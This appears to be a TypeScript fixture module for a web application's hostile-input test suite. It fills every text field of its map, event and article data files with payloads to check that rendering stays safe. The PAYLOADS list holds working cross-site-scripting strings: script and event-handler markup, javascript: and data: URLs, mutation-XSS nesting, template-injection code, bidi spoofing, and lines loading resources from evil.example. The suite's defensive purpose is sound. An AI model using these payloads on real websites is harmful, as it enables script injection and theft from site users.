/**
 * The hostile-input suite's data: the good test fixture with every text field of every data file
 * replaced by one payload, plus items whose ids, dates and terms are payloads too (they are
 * rejected, and the problems notice quotes them). Deterministic: no randomness at all.
 */
import { readFileSync } from 'node:fs';

const good = (f: string) =>
  JSON.parse(readFileSync(`tests/fixtures/good/${f}`, 'utf8')) as Record<string, unknown>;

/** OWASP-style payloads: markup with handlers, navigation, styles, forms, frames, URL schemes. */
export const PAYLOADS: readonly string[] = [
  '<img src=x onerror="window.__pwned=1" data-pwn>',
  '<script>window.__pwned=1</script>',
  '<svg onload="window.__pwned=1" data-pwn><circle r=9 /></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/bg)}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css" data-pwn>',
  '<form action="https://evil.example/" data-pwn><button>Go</button></form>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>" data-pwn></iframe>',
  '<object data="https://evil.example/x" data-pwn></object>',
  '<a href="javascript:window.__pwned=1" data-pwn>link</a>',
  '<img src="https://tile.openstreetmap.org/0/0/0.png?leak=1" data-pwn>',
  'javascript:window.__pwned=1',
  'java\tscript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  '" onmouseover="window.__pwned=1" data-pwn="',
  "'><img src=x onerror=window.__pwned=1 data-pwn>",
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1 data-pwn>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1 data-pwn>',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '\u202Egnp.exe\u202C \u2066اختبار\u2069 \u200Fשלום',
  'null\u0000byte<img src=x onerror=window.__pwned=1 data-pwn>',
];

/** A 1 MB string, tried in the longest fields on its own (every field at 1 MB would be 60 MB). */
export const HUGE = `${'A'.repeat(1_000_000)}<img src=x onerror=window.__pwned=1 data-pwn>`;

type Obj = Record<string, unknown>;

/** The text fields each file holds, as paths (for the count in the README). */
export const FIELDS = {
  'places.geojson': [
    'name',
    'names.ar',
    'names.he',
    'note',
    'disputed',
    'admin',
    'sources[].publisher',
    'sources[].title',
    'sources[].url',
    'sources[].origin',
  ],
  'events.json': [
    'title',
    'summary',
    'disputed',
    'datePrecisionNote',
    'sources[].publisher',
    'sources[].title',
    'sources[].url',
    'sources[].origin',
  ],
  'article.json': ['title', 'publisher', 'url', 'paragraphs[].text', 'excerpts[].text'],
  'basemap.geojson': ['country name', 'town name'],
  // Rejected by the validator and quoted in the problems notice.
  rejected: [
    'place id',
    'place kind',
    'place validFrom',
    'event id',
    'event start',
    'event category',
    'event actor',
    'event confidence',
    'event place reference',
    'source date',
    'source kind',
    'excerpt relation',
  ],
} as const;

export const FIELD_COUNT = Object.values(FIELDS).reduce((n, list) => n + list.length, 0);

const sourcesWith = (sources: unknown, text: string) =>
  (sources as Obj[]).map((s) => ({
    ...s,
    publisher: text,
    title: text,
    url: text,
    origin: text,
    kind: 'aggregator',
  }));

/** The four data files with `text` in every field, as the app would fetch them. */
export function hostileStory(text: string): Record<string, string> {
  const places = good('places.geojson');
  const features: Obj[] = (places.features as Obj[]).map((f) => {
    const p = f.properties as Obj;
    return {
      ...f,
      properties: {
        ...p,
        name: text,
        names: { ar: text, he: text },
        note: text,
        disputed: text,
        admin: text,
        precisionM: 500,
        sources: sourcesWith(p.sources, text),
      },
    };
  });
  features.push({
    type: 'Feature',
    properties: {
      id: text,
      name: text,
      kind: text,
      validFrom: text,
      approximate: true,
      sources: [{ publisher: text, title: text }],
    },
    geometry: { type: 'Point', coordinates: [35.9, 33.2] },
  });

  const events: Obj[] = (good('events.json').events as Obj[]).map((e) => ({
    ...e,
    title: text,
    summary: text,
    disputed: text,
    datePrecisionNote: text,
    sources: sourcesWith(e.sources, text).map((s) => ({
      ...s,
      url: 'https://example.org/ok',
      title: text,
    })),
  }));
  // One event keeps a payload URL (shown as text, never as a link).
  (events[0]!.sources as Obj[]).push({
    publisher: text,
    title: text,
    url: text,
    date: '2017-07-08',
  });
  events.push({
    ...events[1]!,
    id: text,
    start: text,
    category: text,
    actors: [text],
    confidence: text,
    places: [text],
    sources: [{ publisher: text, title: text, url: text, date: text, kind: text }],
  });

  const article = good('article.json');
  const excerpts = (article.excerpts as Obj[]).map((x, i) => ({
    ...x,
    text,
    events: i === 1 ? [{ id: '2025-11-17-tour', relation: text }, '2024-12-rumour'] : x.events,
  }));
  const paragraphs = (article.paragraphs as Obj[]).map((p) => ({ ...p, text: `${text} ${text}` }));

  const basemap = good('basemap.geojson');
  const basemapFeatures: Obj[] = (basemap.features as Obj[]).map((f) => ({
    ...f,
    properties: { ...(f.properties as Obj), name: text },
  }));
  basemapFeatures.push({
    type: 'Feature',
    properties: { kind: 'town', name: text, minZoom: 0 },
    geometry: { type: 'Point', coordinates: [35.95, 33.25] },
  });

  return {
    'places.geojson': JSON.stringify({ ...places, features }),
    'events.json': JSON.stringify({ events }),
    'article.json': JSON.stringify({
      ...article,
      title: text,
      publisher: text,
      url: text,
      paragraphs,
      excerpts,
    }),
    'basemap.geojson': JSON.stringify({ ...basemap, features: basemapFeatures }),
  };
}
